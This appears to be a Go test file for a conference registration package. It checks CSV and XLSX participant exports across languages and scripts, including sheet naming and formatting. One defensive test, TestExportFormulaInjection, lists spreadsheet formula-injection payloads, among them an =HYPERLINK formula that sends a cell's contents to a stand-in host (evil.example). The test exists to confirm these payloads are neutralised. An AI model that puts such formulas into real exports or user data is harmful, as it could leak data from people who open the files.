package registration

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"
)

// exportRows are in protocol order for French and deliberately not sorted
// any other way, so that an export that re-sorts shows.
func exportRows() []Row {
	registered := time.Date(2026, 2, 3, 14, 5, 0, 0, time.UTC)
	checkedIn := time.Date(2026, 3, 12, 9, 30, 0, 0, time.FixedZone("CET", 3600))
	row := func(stateName string, d Details, status string, funded bool) Row {
		return Row{
			Registration: Registration{State: "XX", Details: d, Status: status, Funded: funded, CreatedAt: registered},
			StateName:    stateName,
		}
	}
	rows := []Row{
		row("Grèce", Details{FirstName: "Ελένη", LastName: "Παπαδοπούλου", Email: "eleni@example.gr",
			Function: "Συντονίστρια", Organisation: "Υπουργείο Υγείας", DelegationRole: "head",
			FundingRequested: true, Dietary: "végétarien, sans gluten", ListConsent: true}, StatusConfirmed, true),
		row("Ukraine", Details{FirstName: "Олена", LastName: "Коваленко", Email: "olena@example.ua",
			Function: "Експерт", Organisation: "Міністерство охорони здоров'я", DelegationRole: "expert",
			Accessibility: "fauteuil roulant 🦽"}, StatusWaitlisted, false),
		row("Côte d'Ivoire", Details{FirstName: "Zoë 🌍", LastName: "Lefèvre-Noël", Email: "zoe@example.ci",
			Function: "Chargée de mission « prévention »", DelegationRole: "adviser"}, StatusPending, false),
		row("Belgique", Details{FirstName: "Jean", LastName: "Dupont", Email: "jean@example.be",
			DelegationRole: "delegate"}, StatusCancelled, false),
	}
	rows[0].CheckedInAt = &checkedIn
	return rows
}

// export runs WriteCSV or WriteXLSX and reads the result back as the header
// and the rows of cells, each padded to the full width.
func export(t *testing.T, format string, rows []Row, lang string) (header []string, cells [][]string) {
	t.Helper()
	var buf bytes.Buffer
	var got [][]string
	switch format {
	case "csv":
		if err := WriteCSV(&buf, rows, lang); err != nil {
			t.Fatalf("WriteCSV: %v", err)
		}
		got = readCSV(t, buf.Bytes(), lang)
	case "xlsx":
		if err := WriteXLSX(&buf, rows, lang, "Participants"); err != nil {
			t.Fatalf("WriteXLSX: %v", err)
		}
		_, got = readXLSX(t, buf.Bytes())
	}
	if len(got) == 0 {
		t.Fatalf("%s export is empty", format)
	}
	for i := range got {
		for len(got[i]) < len(exportColumns) {
			got[i] = append(got[i], "") // excelize drops trailing empty cells
		}
	}
	return got[0], got[1:]
}

func readCSV(t *testing.T, data []byte, lang string) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(data, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("CSV does not start with a UTF-8 byte order mark: %q", data[:min(len(data), 8)])
	}
	r := csv.NewReader(bytes.NewReader(body))
	r.Comma = ','
	if lang == "fr" {
		r.Comma = ';'
	}
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV back: %v\n%s", err, body)
	}
	return records
}

func readXLSX(t *testing.T, data []byte) (*excelize.File, [][]string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("opening the XLSX: %v", err)
	}
	t.Cleanup(func() { _ = f.Close() })
	if sheets := f.GetSheetList(); len(sheets) != 1 {
		t.Fatalf("sheets = %q, want one", sheets)
	}
	rows, err := f.GetRows(f.GetSheetName(0))
	if err != nil {
		t.Fatalf("reading the XLSX rows: %v", err)
	}
	return f, rows
}

func TestExportColumns(t *testing.T) {
	en, fr := ExportColumns("en"), ExportColumns("fr")
	wantEN := []string{"State", "Last name", "First name", "Email", "Function", "Organisation",
		"Role in delegation", "Status", "Funding requested", "Funded", "Dietary requirements",
		"Accessibility needs", "Listed publicly (consent)", "Checked in", "Registered at", "Attendance"}
	if !slices.Equal(en, wantEN) {
		t.Errorf("English headers = %q\nwant %q", en, wantEN)
	}
	if len(fr) != len(en) || fr[0] != "État" || fr[2] != "Prénom" || fr[6] != "Rôle dans la délégation" {
		t.Errorf("French headers = %q", fr)
	}
	for _, format := range []string{"csv", "xlsx"} {
		for _, lang := range []string{"en", "fr"} {
			if header, _ := export(t, format, exportRows(), lang); !slices.Equal(header, ExportColumns(lang)) {
				t.Errorf("%s %s header = %q, want %q", format, lang, header, ExportColumns(lang))
			}
		}
	}
}

// TestExportRoundTrip checks both formats in both languages: every script
// and emoji survives, rows keep the order given, labels are translated.
func TestExportRoundTrip(t *testing.T) {
	rows := exportRows()
	for _, format := range []string{"csv", "xlsx"} {
		for _, lang := range []string{"en", "fr"} {
			t.Run(format+"/"+lang, func(t *testing.T) {
				_, cells := export(t, format, rows, lang)
				if len(cells) != len(rows) {
					t.Fatalf("%d rows, want %d", len(cells), len(rows))
				}
				for i, r := range rows {
					got := cells[i]
					want := []string{r.StateName, r.LastName, r.FirstName, r.Email, r.Function, r.Organisation,
						RoleLabel(r.DelegationRole, lang), StatusLabel(r.Status, lang)}
					if !slices.Equal(got[:8], want) {
						t.Errorf("row %d = %q\nwant %q", i, got[:8], want)
					}
					if got[10] != r.Dietary || got[11] != r.Accessibility {
						t.Errorf("row %d needs = %q, %q", i, got[10], got[11])
					}
				}
				yes, no := "Yes", "No"
				if lang == "fr" {
					yes, no = "Oui", "Non"
				}
				first, second := cells[0], cells[1]
				if first[8] != yes || first[9] != yes || first[12] != yes || second[8] != no || second[9] != no || second[12] != no {
					t.Errorf("yes/no columns = %q and %q", first[8:10], second[8:10])
				}
				if first[13] != "2026-03-12T09:30:00+01:00" || second[13] != "" || first[14] != "2026-02-03T14:05:00Z" {
					t.Errorf("times = %q, %q, %q", first[13], second[13], first[14])
				}
			})
		}
	}
}

func TestExportFormulaInjection(t *testing.T) {
	attacks := []string{`=HYPERLINK("https://evil.example/?"&A2,"Click")`, "+1", "-2", "@SUM(A1)", "\tx", "\r=1+1"}
	rows := make([]Row, len(attacks))
	for i, a := range attacks {
		rows[i] = Row{StateName: "France", Registration: Registration{Details: Details{
			FirstName: a, LastName: "Martin", Function: a, Dietary: a, DelegationRole: "delegate"}, Status: StatusConfirmed}}
	}
	for _, format := range []string{"csv", "xlsx"} {
		for _, lang := range []string{"en", "fr"} {
			_, cells := export(t, format, rows, lang)
			for i, a := range attacks {
				want := "'" + a
				if format == "csv" {
					// encoding/csv in CRLF mode drops a lone CR; the
					// apostrophe still comes first.
					want = strings.ReplaceAll(want, "\r", "")
				}
				for _, col := range []int{2, 4, 10} {
					if got := cells[i][col]; got != want {
						t.Errorf("%s %s: %q exported as %q, want a leading apostrophe", format, lang, a, got)
					}
				}
			}
		}
	}

	// The XLSX has no formula at all, and the cells are text.
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, rows, "en", "Participants"); err != nil {
		t.Fatal(err)
	}
	f, _ := readXLSX(t, buf.Bytes())
	for i := range attacks {
		cell := fmt.Sprintf("C%d", i+2)
		if formula, _ := f.GetCellFormula("Participants", cell); formula != "" {
			t.Errorf("%s holds the formula %q", cell, formula)
		}
		if typ, _ := f.GetCellType("Participants", cell); typ != excelize.CellTypeInlineString {
			t.Errorf("%s has type %v, want a string", cell, typ)
		}
	}
}

func TestWriteCSVSeparatorsAndQuoting(t *testing.T) {
	name := "O\"Brien, Jr; the\nsecond"
	rows := []Row{{StateName: "Irlande", Registration: Registration{Details: Details{
		FirstName: "Seán", LastName: name, DelegationRole: "head"}, Status: StatusConfirmed}}}
	for lang, sep := range map[string]string{"en": ",", "fr": ";"} {
		var buf bytes.Buffer
		if err := WriteCSV(&buf, rows, lang); err != nil {
			t.Fatal(err)
		}
		headerLine, _, _ := strings.Cut(strings.TrimPrefix(buf.String(), "\uFEFF"), "\r\n")
		if want := strings.Join(ExportColumns(lang), sep); headerLine != want {
			t.Errorf("%s header line = %q, want %q", lang, headerLine, want)
		}
		records := readCSV(t, buf.Bytes(), lang)
		if len(records) != 2 || records[1][1] != name || records[1][2] != "Seán" {
			t.Errorf("%s: name came back as %q", lang, records[1:])
		}
	}
}

func TestWriteXLSXSheet(t *testing.T) {
	var buf bytes.Buffer
	title := "Groupe d'experts : prévention/réduction des risques [2026]"
	if err := WriteXLSX(&buf, exportRows(), "fr", title); err != nil {
		t.Fatal(err)
	}
	f, rows := readXLSX(t, buf.Bytes())
	sheet := f.GetSheetName(0)
	if sheet != "Groupe d’experts prévention réd" {
		t.Errorf("sheet name = %q", sheet)
	}
	if len(rows) != 5 {
		t.Errorf("%d rows, want header and 4", len(rows))
	}
	panes, err := f.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, %v; want the header row frozen", panes, err)
	}
	styleID, _ := f.GetCellStyle(sheet, "A1")
	style, err := f.GetStyle(styleID)
	if err != nil || style.Font == nil || !style.Font.Bold {
		t.Errorf("header style = %+v, %v; want bold", style, err)
	}
	var filter string
	for _, dn := range f.GetDefinedName() {
		if dn.Name == "_xlnm._FilterDatabase" {
			filter = dn.RefersTo
		}
	}
	if filter != "'"+sheet+"'!$A$1:$P$5" {
		t.Errorf("auto-filter = %q, want it over the header and rows", filter)
	}
	if w, _ := f.GetColWidth(sheet, "B"); w < 12 || w > 50 {
		t.Errorf("last-name column width = %v", w)
	}
	// Excel asks to repair a sheet whose column widths are not in order.
	xml := sheetXML(t, buf.Bytes())
	last := -1
	for col := 1; col <= len(exportColumns); col++ {
		i := strings.Index(xml, fmt.Sprintf(`<col min="%d" `, col))
		if i < last {
			t.Fatalf("column %d's width is missing or out of order", col)
		}
		last = i
	}
}

// sheetXML returns the worksheet part of an XLSX file.
func sheetXML(t *testing.T, data []byte) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		if f.Name == "xl/worksheets/sheet1.xml" {
			r, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			defer r.Close()
			b, err := io.ReadAll(r)
			if err != nil {
				t.Fatal(err)
			}
			return string(b)
		}
	}
	t.Fatal("no xl/worksheets/sheet1.xml in the XLSX")
	return ""
}

func TestWriteXLSXNoRows(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, nil, "en", ""); err != nil {
		t.Fatal(err)
	}
	f, rows := readXLSX(t, buf.Bytes())
	if f.GetSheetName(0) != "Participants" || len(rows) != 1 {
		t.Errorf("sheet %q with %d rows, want Participants with the header only", f.GetSheetName(0), len(rows))
	}
}

func TestExportSheetName(t *testing.T) {
	for title, want := range map[string]string{
		"Plenary meeting":                     "Plenary meeting",
		"'Quoted'":                            "’Quoted’",
		"a:b/c\\d?e*f[g]h":                    "a b c d e f g h",
		"Line\nbreak":                         "Line break",
		"History":                             "Participants",
		" :/ ":                                "Participants",
		strings.Repeat("é", 40):               strings.Repeat("é", 31),
		strings.Repeat("x", 30) + "🌍":         strings.Repeat("x", 30), // the emoji takes two UTF-16 units
		"Réunion plénière des correspondants": "Réunion plénière des correspond",
	} {
		got := sheetName(title)
		if got != want {
			t.Errorf("sheetName(%q) = %q, want %q", title, got, want)
		}
		if n := len(utf16.Encode([]rune(got))); n > 31 {
			t.Errorf("sheetName(%q) is %d units long", title, n)
		}
	}
}

func benchmarkRows(n int) []Row {
	sample := exportRows()
	rows := make([]Row, n)
	for i := range rows {
		rows[i] = sample[i%len(sample)]
		rows[i].LastName = fmt.Sprintf("%s %d", rows[i].LastName, i)
	}
	return rows
}

func BenchmarkWriteCSV(b *testing.B) {
	rows := benchmarkRows(5000)
	b.ReportAllocs()
	for b.Loop() {
		if err := WriteCSV(io.Discard, rows, "fr"); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkWriteXLSX(b *testing.B) {
	rows := benchmarkRows(5000)
	b.ReportAllocs()
	for b.Loop() {
		if err := WriteXLSX(io.Discard, rows, "fr", "Réunion plénière"); err != nil {
			b.Fatal(err)
		}
	}
}
